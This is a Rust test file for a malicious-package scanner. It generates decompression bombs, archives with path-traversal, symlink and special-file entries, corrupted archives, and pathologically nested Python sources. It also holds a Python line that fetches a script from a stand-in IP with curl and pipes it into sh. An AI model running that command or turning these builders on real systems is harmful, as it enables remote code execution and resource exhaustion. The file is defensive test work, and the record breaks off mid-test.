//! Hostile inputs, end to end: every case is generated here at test time (no binary blobs are
//! committed), must finish without a panic, and must end in a clear finding or error entry.
//!
//! Timing is measured only to fail on a gross hang (`HANG`, generous for debug builds);
//! performance itself is not asserted here.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![allow(clippy::indexing_slicing)]

use std::collections::BTreeSet;
use std::io::{Cursor, Write};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::{Duration, Instant};

use base64::Engine as _;
use serde_json::Value;
use wheelhound::{
    AnalysisOptions, InputSpec, PackageReport, ScanOptions, Verdict, analyze_package,
    scan_streaming,
};
use wheelhound_input::{LoadOptions, Member, Origin, Package};

/// A case slower than this is a hang, not a slow debug build.
const HANG: Duration = Duration::from_secs(60);

/// Error kinds that name a decompression-bomb bound.
const BOMB_KINDS: [&str; 5] = [
    "ratio_limit",
    "total_bytes_limit",
    "depth_limit",
    "member_size_limit",
    "member_count_limit",
];

/// A line every detector configuration must flag, appended after hostile structure to prove
/// the structure does not blind the analysis.
const EVIL_TAIL: &str = "\nimport os\nos.system(\"curl -s http://198.51.100.7/p.sh | sh\")\n";

// ---------------------------------------------------------------------------------------------
// Harness

fn timed<T>(label: &str, f: impl FnOnce() -> T) -> T {
    let start = Instant::now();
    let out = f();
    let elapsed = start.elapsed();
    eprintln!("{label}: {elapsed:.2?}");
    assert!(
        elapsed < HANG,
        "{label} took {elapsed:?}: treated as a hang"
    );
    out
}

/// Runs `f` on a pool whose threads have the stack `scan_streaming` gives analysis threads.
fn on_big_stack<T: Send>(f: impl FnOnce() -> T + Send) -> T {
    rayon::ThreadPoolBuilder::new()
        .num_threads(2)
        .stack_size(256 << 20)
        .build()
        .unwrap()
        .install(f)
}

/// Analyses a hand-built package, as the scanner would after loading.
fn analyze(label: &str, members: Vec<(&str, Vec<u8>)>) -> PackageReport {
    analyze_with(label, members, AnalysisOptions::default())
}

/// Like [`analyze`], with analysis bounds of the test's choosing.
fn analyze_with(
    label: &str,
    members: Vec<(&str, Vec<u8>)>,
    analysis: AnalysisOptions,
) -> PackageReport {
    let options = ScanOptions {
        analysis,
        ..ScanOptions::default()
    };
    let package = Package {
        input: label.to_owned(),
        origin: Origin::Directory,
        members: members
            .into_iter()
            .map(|(path, data)| Member {
                path: path.to_owned(),
                size: data.len() as u64,
                data,
            })
            .collect(),
        issues: Vec::new(),
        fatal: false,
    };
    timed(label, || {
        on_big_stack(|| analyze_package(package, &options))
    })
}

/// Loads `path` with the default limits.
fn load(path: &Path) -> Package {
    let input = path.to_str().unwrap().to_owned();
    let spec = wheelhound_input::parse_input(&input).unwrap();
    let mut packages = wheelhound_input::load(&input, &spec, &LoadOptions::default());
    assert_eq!(packages.len(), 1);
    packages.remove(0)
}

/// Loads and analyses `path` through the library's streaming scan.
fn scan(label: &str, path: &Path) -> PackageReport {
    let input = path.to_str().unwrap().to_owned();
    let inputs = vec![(input.clone(), InputSpec::Path(path.to_path_buf()))];
    let mut reports = Vec::new();
    timed(label, || {
        scan_streaming(&inputs, &ScanOptions::default(), &mut |r| reports.push(r))
    });
    assert_eq!(reports.len(), 1);
    reports.remove(0)
}

/// Writes `bytes` as `name` in a fresh temporary directory.
fn write_temp(name: &str, bytes: &[u8]) -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join(name);
    std::fs::write(&path, bytes).unwrap();
    (dir, path)
}

fn error_kinds(report: &PackageReport) -> BTreeSet<&str> {
    report.errors.iter().map(|e| e.kind.as_str()).collect()
}

fn issue_kinds(package: &Package) -> BTreeSet<String> {
    package
        .issues
        .iter()
        .map(|i| {
            serde_json::to_value(i.kind)
                .unwrap()
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect()
}

/// A bomb must be called out: a non-benign verdict or an error naming one of the bounds.
fn assert_bomb_handled(label: &str, report: &PackageReport) {
    let kinds = error_kinds(report);
    assert!(
        report.verdict != Verdict::Benign || kinds.iter().any(|k| BOMB_KINDS.contains(k)),
        "{label}: verdict {:?}, errors {:?}",
        report.verdict,
        report.errors
    );
}

/// A hostile source must leave a trace: a finding or an error entry.
fn assert_findings_or_errors(label: &str, report: &PackageReport) {
    assert!(
        !report.files.is_empty() || !report.errors.is_empty(),
        "{label}: no finding and no error entry (verdict {:?})",
        report.verdict
    );
}

/// Every file and directory under `root`, relative.
fn snapshot(root: &Path) -> BTreeSet<PathBuf> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeSet<PathBuf>) {
        let Ok(entries) = std::fs::read_dir(dir) else {
            return;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            out.insert(path.strip_prefix(root).unwrap().to_path_buf());
            if entry.file_type().is_ok_and(|t| t.is_dir()) {
                walk(root, &path, out);
            }
        }
    }
    let mut out = BTreeSet::new();
    walk(root, root, &mut out);
    out
}

/// Runs the binary: `scan --format jsonl`, returning the exit code and the parsed lines.
fn run_bin(cwd: &Path, input: &Path) -> (i32, Vec<Value>) {
    let (code, lines, _) = run_bin_with(cwd, &[], &[input]);
    (code, lines)
}

/// Runs `scan --format jsonl` with extra options on several inputs: exit code, parsed lines,
/// stderr.
fn run_bin_with(cwd: &Path, options: &[&str], inputs: &[&Path]) -> (i32, Vec<Value>, String) {
    let start = Instant::now();
    let output = Command::new(env!("CARGO_BIN_EXE_wheelhound"))
        .current_dir(cwd)
        .args(["scan", "--format", "jsonl", "--fail-on", "never"])
        .args(options)
        .args(inputs)
        .output()
        .unwrap();
    let elapsed = start.elapsed();
    assert!(elapsed < HANG, "binary on {inputs:?} took {elapsed:?}");
    let code = output.status.code().unwrap_or(-1);
    let stdout = String::from_utf8(output.stdout).unwrap();
    let lines = stdout
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .collect();
    (code, lines, String::from_utf8(output.stderr).unwrap())
}

/// True when `report` has an `analysis` error entry whose message contains `needle`.
fn has_analysis_error(report: &PackageReport, needle: &str) -> bool {
    report
        .errors
        .iter()
        .any(|e| e.kind == "analysis" && e.message.contains(needle))
}

/// True when a `--format jsonl` line has an `analysis` error entry containing `needle`.
fn line_has_analysis_error(line: &Value, needle: &str) -> bool {
    line["errors"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["kind"] == "analysis" && e["message"].as_str().unwrap().contains(needle))
}

/// Scans `name` holding `source` through the binary with `options`; the one jsonl line.
fn bin_line(name: &str, source: &[u8], options: &[&str]) -> Value {
    let (dir, path) = write_temp(name, source);
    let (code, mut lines, stderr) = run_bin_with(dir.path(), options, &[&path]);
    assert!((0..=1).contains(&code), "exit {code}: {stderr}");
    assert_eq!(lines.len(), 1, "{lines:?}");
    lines.remove(0)
}

fn assert_bin_verdict(cwd: &Path, input: &Path) -> Value {
    let (code, lines) = run_bin(cwd, input);
    assert_ne!(code, 2, "usage error on {input:?}");
    assert!((0..=1).contains(&code), "abnormal exit {code} on {input:?}");
    assert_eq!(lines.len(), 1, "{lines:?}");
    let line = lines.into_iter().next().unwrap();
    let verdict = line["verdict"].as_str().unwrap();
    assert!(Verdict::parse(verdict).is_some(), "{verdict}");
    line
}

// ---------------------------------------------------------------------------------------------
// Builders

fn gz(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn b64(data: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(data)
}

/// Deterministic incompressible bytes.
fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut x = seed | 1;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

fn zip_of(files: &[(&str, &[u8])], method: zip::CompressionMethod) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in files {
        let options = SimpleFileOptions::default()
            .compression_method(method)
            .large_file(false);
        w.start_file(*name, options).unwrap();
        w.write_all(data).unwrap();
    }
    w.finish().unwrap().into_inner()
}

/// One raw tar entry: name bytes written verbatim, so hostile names survive.
struct TarEntry {
    name: Vec<u8>,
    kind: tar::EntryType,
    data: Vec<u8>,
    link: Option<Vec<u8>>,
}

fn regular(name: &[u8], data: &[u8]) -> TarEntry {
    TarEntry {
        name: name.to_vec(),
        kind: tar::EntryType::Regular,
        data: data.to_vec(),
        link: None,
    }
}

fn special(name: &[u8], kind: tar::EntryType, link: Option<&[u8]>) -> TarEntry {
    TarEntry {
        name: name.to_vec(),
        kind,
        data: Vec::new(),
        link: link.map(<[u8]>::to_vec),
    }
}

fn tar_header(name: &[u8], kind: tar::EntryType, size: u64, link: Option<&[u8]>) -> tar::Header {
    let mut h = tar::Header::new_gnu();
    {
        let old = h.as_old_mut();
        old.name = [0; 100];
        old.name[..name.len()].copy_from_slice(name);
        if let Some(link) = link {
            old.linkname = [0; 100];
            old.linkname[..link.len()].copy_from_slice(link);
        }
    }
    h.set_entry_type(kind);
    h.set_mode(0o644);
    h.set_size(size);
    h.set_cksum();
    h
}

fn tar_of(entries: &[TarEntry]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for e in entries {
        let h = tar_header(&e.name, e.kind, e.data.len() as u64, e.link.as_deref());
        b.append(&h, e.data.as_slice()).unwrap();
    }
    b.into_inner().unwrap()
}

// ---------------------------------------------------------------------------------------------
// Archive bombs

/// 4 levels × 10 copies around 10 MiB of zeros: 100 GB if fully expanded, ~10 MB on disk.
fn nested_zip_bomb() -> Vec<u8> {
    let zeros = vec![0u8; 10 << 20];
    let mut level = zip_of(&[("zeros.bin", &zeros)], zip::CompressionMethod::Deflated);
    for depth in 1..4 {
        let names: Vec<String> = (0..10).map(|i| format!("l{depth}-{i}.zip")).collect();
        let files: Vec<(&str, &[u8])> = names
            .iter()
            .map(|n| (n.as_str(), level.as_slice()))
            .collect();
        level = zip_of(&files, zip::CompressionMethod::Stored);
    }
    level
}

#[test]
fn nested_zip_bomb_is_bounded() {
    let (_dir, path) = write_temp("bomb-1.0-py3-none-any.whl", &nested_zip_bomb());
    let report = scan("nested zip bomb", &path);
    assert_bomb_handled("nested zip bomb", &report);
}

#[test]
fn nested_zip_bomb_through_the_binary() {
    let (dir, path) = write_temp("bomb.zip", &nested_zip_bomb());
    let line = timed("nested zip bomb (binary)", || {
        assert_bin_verdict(dir.path(), &path)
    });
    let kinds: Vec<&str> = line["errors"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["kind"].as_str())
        .collect();
    assert!(
        line["verdict"] != "benign" || kinds.iter().any(|k| BOMB_KINDS.contains(k)),
        "{line}"
    );
}

/// A zip whose central directory lists many entries that all point at one local entry
/// (the "non-recursive" bomb): a few KB on disk, gigabytes if every entry is inflated.
fn overlapping_zip_bomb(copies: usize) -> Vec<u8> {
    let zeros = vec![0u8; 10 << 20];
    let base = zip_of(&[("f0000", &zeros)], zip::CompressionMethod::Deflated);
    let eocd = base.len() - 22;
    assert_eq!(&base[eocd..eocd + 4], b"PK\x05\x06");
    let u32_at = |at: usize| u32::from_le_bytes(base[at..at + 4].try_into().unwrap()) as usize;
    let cd_size = u32_at(eocd + 12);
    let cd_offset = u32_at(eocd + 16);
    let record = &base[cd_offset..cd_offset + cd_size];
    let mut out = base[..cd_offset].to_vec();
    for i in 0..copies {
        let mut r = record.to_vec();
        r[46..51].copy_from_slice(format!("f{i:04}").as_bytes());
        out.extend_from_slice(&r);
    }
    let mut end = base[eocd..].to_vec();
    let n = u16::try_from(copies).unwrap().to_le_bytes();
    end[8..10].copy_from_slice(&n);
    end[10..12].copy_from_slice(&n);
    end[12..16].copy_from_slice(&u32::try_from(cd_size * copies).unwrap().to_le_bytes());
    out.extend_from_slice(&end);
    out
}

#[test]
fn overlapping_zip_bomb_is_bounded() {
    let (_dir, path) = write_temp("overlap.whl", &overlapping_zip_bomb(1000));
    let report = scan("overlapping zip bomb", &path);
    assert_bomb_handled("overlapping zip bomb", &report);
}

/// A tar.gz whose one member declares 4 GiB of zeros. The gzip is multi-member (one member
/// of 10 MiB of zeros repeated), so it costs only a few MB to build and a few MB on disk.
fn tar_gz_bomb() -> Vec<u8> {
    let size: u64 = 4 << 30;
    let chunk = 10u64 << 20;
    let header = tar_header(b"pkg/zeros.py", tar::EntryType::Regular, size, None);
    let mut out = gz(header.as_bytes());
    let zeros = gz(&vec![0u8; usize::try_from(chunk).unwrap()]);
    for _ in 0..size / chunk {
        out.extend_from_slice(&zeros);
    }
    let rest = size % chunk;
    out.extend_from_slice(&gz(&vec![0u8; usize::try_from(rest).unwrap() + 1024]));
    out
}

#[test]
fn tar_gz_bomb_is_bounded() {
    let (_dir, path) = write_temp("bomb-1.0.tar.gz", &tar_gz_bomb());
    let report = scan("tar.gz bomb", &path);
    assert_bomb_handled("tar.gz bomb", &report);
}

#[test]
fn tar_gz_bomb_through_the_binary() {
    let (dir, path) = write_temp("bomb-1.0.tar.gz", &tar_gz_bomb());
    timed("tar.gz bomb (binary)", || {
        assert_bin_verdict(dir.path(), &path)
    });
}

/// Many members, each tiny: the member-count bound, not memory, must stop it.
#[test]
fn member_count_bomb_is_bounded() {
    let entries: Vec<TarEntry> = (0..120_000)
        .map(|i| regular(format!("m/{i}").as_bytes(), b""))
        .collect();
    let (_dir, path) = write_temp("many.tar.gz", &gz(&tar_of(&entries)));
    let report = scan("member-count bomb", &path);
    assert!(
        error_kinds(&report).contains("member_count_limit"),
        "{:?}",
        report.errors
    );
}

// ---------------------------------------------------------------------------------------------
// Archive names and entry types

/// Every hostile entry kind of tar in one archive, plus a symlink-then-write-through pair.
fn hostile_tar(outside: &Path, tag: &str) -> Vec<u8> {
    let abs = format!("/tmp/wheelhound-hostile-{tag}-abs.py");
    tar_of(&[
        regular(b"pkg/ok.py", b"ok = 1\n"),
        regular(
            format!("../../wheelhound-hostile-{tag}-up.py").as_bytes(),
            b"up = 1\n",
        ),
        regular(abs.as_bytes(), b"abs = 1\n"),
        regular(b"C:\\Windows\\wheelhound-drive.py", b"drive = 1\n"),
        special(
            b"pkg/sym",
            tar::EntryType::Symlink,
            Some(outside.to_str().unwrap().as_bytes()),
        ),
        regular(b"pkg/sym/owned.py", b"owned = 1\n"),
        special(b"pkg/hard", tar::EntryType::Link, Some(b"/etc/passwd")),
        special(b"pkg/chr", tar::EntryType::Char, None),
        special(b"pkg/blk", tar::EntryType::Block, None),
        special(b"pkg/fifo", tar::EntryType::Fifo, None),
        regular(b"pkg/dup.py", b"first = 1\n"),
        regular(b"pkg/dup.py", b"second = 1\n"),
        regular(b"pkg/bad\xff\xfe.py", b"bad = 1\n"),
        regular(b"pkg/ctl\x1b[2J\r\n.py", b"ctl = 1\n"),
    ])
}

#[test]
fn hostile_tar_names_and_types_are_reported_and_nothing_escapes() {
    let root = tempfile::tempdir().unwrap();
    let outside = root.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    let work = root.path().join("a/b");
    std::fs::create_dir_all(&work).unwrap();
    let tag = format!("{}", std::process::id());
    let archive = work.join("hostile-1.0.tar.gz");
    std::fs::write(&archive, gz(&hostile_tar(&outside, &tag))).unwrap();
    let before = snapshot(root.path());

    let package = timed("hostile tar (load)", || load(&archive));
    let kinds = issue_kinds(&package);
    for kind in [
        "path_traversal",
        "link",
        "special_file",
        "duplicate_name",
        "invalid_name",
    ] {
        assert!(kinds.contains(kind), "missing {kind}: {:?}", package.issues);
    }
    let count = |kind: &str| {
        package
            .issues
            .iter()
            .filter(|i| serde_json::to_value(i.kind).unwrap() == kind)
            .count()
    };
    assert_eq!(count("path_traversal"), 3, "{:?}", package.issues);
    assert_eq!(count("link"), 2, "{:?}", package.issues);
    assert_eq!(count("special_file"), 3, "{:?}", package.issues);
    assert_eq!(count("invalid_name"), 2, "{:?}", package.issues);
    for m in &package.members {
        assert!(!m.path.starts_with('/'), "{}", m.path);
        assert!(!m.path.split('/').any(|c| c == ".."), "{}", m.path);
        assert!(!m.path.contains(':'), "{}", m.path);
        assert!(!m.path.chars().any(char::is_control), "{:?}", m.path);
    }

    let report = on_big_stack(|| analyze_package(package, &ScanOptions::default()));
    let kinds = error_kinds(&report);
    for kind in [
        "path_traversal",
        "link",
        "special_file",
        "duplicate_name",
        "invalid_name",
    ] {
        assert!(
            kinds.contains(kind),
            "report lacks {kind}: {:?}",
            report.errors
        );
    }

    // The binary, run from inside the tree so `../..` would land in it.
    let line = timed("hostile tar (binary)", || {
        assert_bin_verdict(&work, &archive)
    });
    assert!(line["errors"].as_array().unwrap().len() >= 10, "{line}");

    assert_eq!(snapshot(root.path()), before, "the scan wrote to disk");
    assert!(!Path::new(&format!("/tmp/wheelhound-hostile-{tag}-abs.py")).exists());
    assert!(!outside.join("owned.py").exists());
}

#[test]
fn hostile_zip_names_are_reported() {
    let base = zip_of(
        &[
            ("../../zip-up.py", b"up = 1\n"),
            ("/abs/zip-abs.py", b"abs = 1\n"),
            ("C:\\zip\\drive.py", b"drive = 1\n"),
            ("pkg/ctl\u{1b}]0;x\u{7}.py", b"ctl = 1\n"),
            ("pkg/dup1.py", b"first = 1\n"),
            ("pkg/dup2.py", b"second = 1\n"),
        ],
        zip::CompressionMethod::Deflated,
    );
    // Duplicate names cannot be written by the zip crate: rename in both headers.
    let bytes = replace_all(&base, b"pkg/dup2.py", b"pkg/dup1.py");
    let (_dir, path) = write_temp("names.zip", &bytes);
    let package = load(&path);
    let kinds = issue_kinds(&package);
    for kind in ["path_traversal", "duplicate_name", "invalid_name"] {
        assert!(kinds.contains(kind), "missing {kind}: {:?}", package.issues);
    }
    assert_eq!(
        package
            .members
            .iter()
            .filter(|m| m.path == "pkg/dup1.py")
            .count(),
        2,
        "{:?}",
        package.issues
    );
}

#[test]
fn zip_symlink_is_not_followed() {
    use zip::write::SimpleFileOptions;
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    w.add_symlink("pkg/link", "/etc/passwd", SimpleFileOptions::default())
        .unwrap();
    w.start_file("pkg/a.py", SimpleFileOptions::default())
        .unwrap();
    w.write_all(b"a = 1\n").unwrap();
    let bytes = w.finish().unwrap().into_inner();
    let (_dir, path) = write_temp("link.zip", &bytes);
    let package = load(&path);
    assert!(
        issue_kinds(&package).contains("link"),
        "{:?}",
        package.issues
    );
    assert!(package.members.iter().all(|m| m.path != "pkg/link"));
}

fn replace_all(haystack: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    assert_eq!(from.len(), to.len());
    let mut out = haystack.to_vec();
    let mut i = 0;
    while i + from.len() <= out.len() {
        if &out[i..i + from.len()] == from {
            out[i..i + from.len()].copy_from_slice(to);
            i += from.len();
        } else {
            i += 1;
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Damaged and lying archives

fn plain_tar() -> Vec<u8> {
    tar_of(&[
        regular(b"pkg/__init__.py", b"a = 1\n"),
        regular(b"pkg/noise.bin", &noise(20_000, 7)),
        regular(b"pkg/last.py", b"b = 2\n"),
    ])
}

#[test]
fn gzip_with_garbage_is_an_error_entry() {
    let mut bytes = vec![0x1f, 0x8b, 0x08, 0x00, 0, 0, 0, 0, 0, 0xff];
    bytes.extend(noise(50_000, 3));
    let (_dir, path) = write_temp("garbage-1.0.tar.gz", &bytes);
    let report = scan("gzip with garbage", &path);
    assert!(
        error_kinds(&report).contains("corrupt"),
        "{:?}",
        report.errors
    );
    assert_eq!(report.verdict, Verdict::Error);
}

#[test]
fn truncated_tar_gz_keeps_what_it_read() {
    let full = gz(&plain_tar());
    let (_dir, path) = write_temp("cut-1.0.tar.gz", &full[..full.len() * 3 / 4]);
    let package = load(&path);
    assert!(
        issue_kinds(&package).contains("corrupt"),
        "{:?}",
        package.issues
    );
    assert!(package.members.iter().any(|m| m.path == "pkg/__init__.py"));
}

#[test]
fn trailing_garbage_after_gzip_is_reported() {
    let mut bytes = gz(&plain_tar());
    bytes.extend_from_slice(b"\x1f\x8bGARBAGE");
    let (_dir, path) = write_temp("tail-1.0.tar.gz", &bytes);
    let package = timed("gzip trailing garbage", || load(&path));
    // The tar itself is intact; a broken trailing member must not crash nor hide the members.
    assert!(
        package.members.iter().any(|m| m.path == "pkg/last.py"),
        "{:?}",
        package.issues
    );
}

#[test]
fn multi_member_gzip_is_read_whole() {
    let raw = plain_tar();
    let split = raw.len() / 2 + 77;
    let mut bytes = gz(&raw[..split]);
    bytes.extend(gz(&raw[split..]));
    let (_dir, path) = write_temp("multi-1.0.tar.gz", &bytes);
    let package = load(&path);
    assert!(package.issues.is_empty(), "{:?}", package.issues);
    assert!(package.members.iter().any(|m| m.path == "pkg/last.py"));
}

#[test]
fn zip_with_broken_central_directory_is_recovered() {
    let good = zip_of(
        &[("pkg/a.py", b"a = 1\n"), ("pkg/b.py", b"b = 2\n")],
        zip::CompressionMethod::Deflated,
    );
    // Point the end record at a central directory that is not there.
    let mut bytes = good.clone();
    let eocd = bytes.len() - 22;
    bytes[eocd + 16..eocd + 20].copy_from_slice(&0x00ff_ff00u32.to_le_bytes());
    let (_dir, path) = write_temp("broken-1.0-py3-none-any.whl", &bytes);
    let package = load(&path);
    assert!(
        issue_kinds(&package).contains("corrupt"),
        "{:?}",
        package.issues
    );
    assert!(
        package.members.iter().any(|m| m.path == "pkg/a.py"),
        "{:?}",
        package.issues
    );

    // And with the end record cut off entirely.
    let (_dir2, path2) = write_temp("cut.whl", &good[..good.len() - 30]);
    let package = load(&path2);
    assert!(
        issue_kinds(&package).contains("corrupt"),
        "{:?}",
        package.issues
    );
}

#[test]
fn zip_headers_that_disagree_never_panic() {
    let good = zip_of(
        &[("pkg/a.py", b"a = 1\n"), ("pkg/b.py", b"b = 2\n")],
        zip::CompressionMethod::Deflated,
    );
    // Rename the first local header only: local and central names now disagree.
    let at = good.windows(8).position(|w| w == b"pkg/a.py").unwrap();
    let mut bytes = good.clone();
    bytes[at..at + 8].copy_from_slice(b"pkg/x.py");
    // And lie about the second entry's uncompressed size in the central directory.
    let (_dir, path) = write_temp("disagree.whl", &bytes);
    let report = scan("zip headers disagree", &path);
    assert!(report.verdict != Verdict::Malicious);
}

#[test]
fn zip_named_tar_gz_is_read_as_zip() {
    let bytes = zip_of(
        &[("liar/__init__.py", format!("x = 1{EVIL_TAIL}").as_bytes())],
        zip::CompressionMethod::Deflated,
    );
    let (_dir, path) = write_temp("liar-1.0.tar.gz", &bytes);
    let package = load(&path);
    assert!(matches!(
        package.origin,
        Origin::Archive {
            format: wheelhound_input::ArchiveFormat::Zip
        }
    ));
    assert!(package.members.iter().any(|m| m.path == "liar/__init__.py"));
    let report = scan("zip named .tar.gz", &path);
    assert!(report.verdict != Verdict::Benign, "{:?}", report.verdict);
}

#[test]
fn truncations_and_bit_flips_never_panic() {
    let samples = [
        gz(&plain_tar()),
        plain_tar(),
        zip_of(
            &[
                ("a.py", &noise(3000, 3)),
                (
                    "in.whl",
                    &zip_of(&[("x.py", b"x = 1\n")], zip::CompressionMethod::Deflated),
                ),
            ],
            zip::CompressionMethod::Deflated,
        ),
    ];
    let mut seed = 0x9e37_79b9_7f4a_7c15u64;
    timed("truncations and bit flips", || {
        for bytes in &samples {
            for cut in (0..bytes.len()).step_by((bytes.len() / 20).max(1)) {
                let _ = wheelhound_input::load_bytes(
                    "t.bin",
                    bytes[..cut].to_vec(),
                    &LoadOptions::default(),
                );
            }
            for _ in 0..60 {
                seed = seed
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1_442_695_040_888_963_407);
                let mut damaged = bytes.clone();
                let at = usize::try_from(seed >> 33).unwrap() % damaged.len();
                damaged[at] ^= (seed >> 8) as u8 | 1;
                let package =
                    wheelhound_input::load_bytes("t.bin", damaged, &LoadOptions::default());
                let _ = on_big_stack(|| analyze_package(package, &ScanOptions::default()));
            }
        }
    });
}

// ---------------------------------------------------------------------------------------------
// Hostile sources

#[test]
fn baseline_evil_tail_is_flagged() {
    let report = analyze(
        "baseline",
        vec![("pkg/mod.py", EVIL_TAIL.as_bytes().to_vec())],
    );
    assert!(
        report.verdict != Verdict::Benign,
        "the tail is not flagged: {report:?}"
    );
}

#[test]
fn fifty_megabyte_one_line_file() {
    let mut src = b"x = \"".to_vec();
    src.resize(50 << 20, b'a');
    src.extend_from_slice(b"\"\n");
    let report = analyze("50 MB one-line file", vec![("pkg/big.py", src.clone())]);
    assert_findings_or_errors("50 MB one-line file", &report);
    assert!(
        report
            .errors
            .iter()
            .any(|e| e.message.contains("parse limit")),
        "{:?}",
        report.errors
    );

    // Through the loader and the binary: a file above the member bound is an error entry.
    let (dir, path) = write_temp("big.py", &src);
    let line = timed("50 MB one-line file (binary)", || {
        assert_bin_verdict(dir.path(), &path)
    });
    assert!(
        line["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "member_size_limit"),
        "{line}"
    );
}

/// `x = <open>…<close>` with `depth` levels, then the evil tail.
fn nested(open: &str, close: &str, depth: usize) -> Vec<u8> {
    let mut s = String::with_capacity(depth * (open.len() + close.len()) + 64);
    s.push_str("x = ");
    for _ in 0..depth {
        s.push_str(open);
    }
    s.push('1');
    for _ in 0..depth {
        s.push_str(close);
    }
    s.push_str(EVIL_TAIL);
    s.into_bytes()
}

#[test]
fn two_hundred_thousand_nested_brackets() {
    let report = analyze(
        "200k brackets",
        vec![("pkg/b.py", nested("[", "]", 200_000))],
    );
    assert_findings_or_errors("200k brackets", &report);
}

#[test]
fn two_hundred_thousand_nested_parentheses_and_braces() {
    let report = analyze("200k parens", vec![("pkg/p.py", nested("(", ")", 200_000))]);
    assert_findings_or_errors("200k parens", &report);
    let report = analyze(
        "200k braces",
        vec![("pkg/d.py", nested("{1:", "}", 200_000))],
    );
    assert_findings_or_errors("200k braces", &report);
}

#[test]
fn two_hundred_thousand_term_operator_chain() {
    let mut s = String::from("x = a");
    for _ in 0..200_000 {
        s.push_str("+a");
    }
    s.push_str(EVIL_TAIL);
    let report = analyze("200k a+a", vec![("pkg/c.py", s.into_bytes())]);
    assert_findings_or_errors("200k a+a", &report);

    let mut s = String::from("x = 'a'");
    for _ in 0..200_000 {
        s.push_str(" + 'a'");
    }
    s.push_str(EVIL_TAIL);
    let report = analyze("200k string concat", vec![("pkg/s.py", s.into_bytes())]);
    assert_findings_or_errors("200k string concat", &report);
}

#[test]
fn megabytes_of_nesting_are_refused_before_parsing() {
    // Each level costs the parser about a kilobyte and a stack frame when freed: 7 MB of `[`
    // took 14 GB and aborted before the shape check. CPython refuses both files too.
    for (label, open) in [("7M [", "["), ("7M unary -", "-")] {
        let mut s = String::from("x = ");
        s.push_str(&open.repeat(7 << 20));
        s.push_str(EVIL_TAIL);
        let report = analyze(label, vec![("pkg/b.py", s.into_bytes())]);
        assert!(
            has_analysis_error(&report, "CPython cannot run either"),
            "{label}: {:?}",
            report.errors
        );
        assert_findings_or_errors(label, &report);
    }
}

#[test]
fn hundred_thousand_nested_calls() {
    let report = analyze(
        "100k f(f(…))",
        vec![("pkg/f.py", nested("f(", ")", 100_000))],
    );
    assert_findings_or_errors("100k f(f(…))", &report);
    let report = analyze(
        "100k exec(exec(…))",
        vec![("pkg/e.py", nested("exec(", ")", 100_000))],
    );
    assert_findings_or_errors("100k exec(exec(…))", &report);
}

#[test]
fn thousand_levels_of_if() {
    let mut s = String::new();
    for level in 0..1000 {
        s.push_str(&" ".repeat(level));
        s.push_str("if x:\n");
    }
    s.push_str(&" ".repeat(1000));
    s.push_str("import os; os.system('curl -s http://198.51.100.7/p.sh | sh')\n");
    s.push_str(EVIL_TAIL);
    let report = analyze("1000 ifs", vec![("pkg/i.py", s.into_bytes())]);
    assert_findings_or_errors("1000 ifs", &report);
}

#[test]
fn invalid_utf8_source() {
    let mut src = b"x = '\xff\xfe\xc3'\n\x80\x81 = 2\n".to_vec();
    src.extend_from_slice(EVIL_TAIL.as_bytes());
    let report = analyze("invalid utf-8", vec![("pkg/u.py", src)]);
    assert!(
        !report.errors.is_empty(),
        "no error entry for invalid UTF-8"
    );
    assert!(
        report.verdict != Verdict::Benign,
        "tail missed after invalid UTF-8"
    );
}

#[test]
fn utf16_with_bom_source() {
    let text = format!("x = 1{EVIL_TAIL}");
    let mut le = vec![0xff, 0xfe];
    le.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
    let mut be = vec![0xfe, 0xff];
    be.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
    let mut odd = le.clone();
    odd.push(0x41); // half a code unit
    for (label, bytes) in [
        ("utf-16le", le),
        ("utf-16be", be),
        ("utf-16 odd length", odd),
    ] {
        let report = analyze(label, vec![("pkg/w.py", bytes)]);
        assert_findings_or_errors(label, &report);
    }
    // A UTF-8 BOM, and a BOM that contradicts the coding cookie.
    let mut bom = b"\xef\xbb\xbf# -*- coding: latin-1 -*-\n".to_vec();
    bom.extend_from_slice(EVIL_TAIL.as_bytes());
    let report = analyze("utf-8 bom vs cookie", vec![("pkg/b.py", bom)]);
    assert_findings_or_errors("utf-8 bom vs cookie", &report);
}

#[test]
fn nul_bytes_in_source() {
    let mut src = b"x = 1\0\0\0\ny = '\0'\n\0".to_vec();
    src.extend_from_slice(EVIL_TAIL.as_bytes());
    let mut all_nul = vec![0u8; 1 << 20];
    all_nul.extend_from_slice(EVIL_TAIL.as_bytes());
    let report = analyze("nul bytes", vec![("pkg/n.py", src), ("pkg/z.py", all_nul)]);
    assert_findings_or_errors("nul bytes", &report);
}

#[test]
fn mixed_line_endings() {
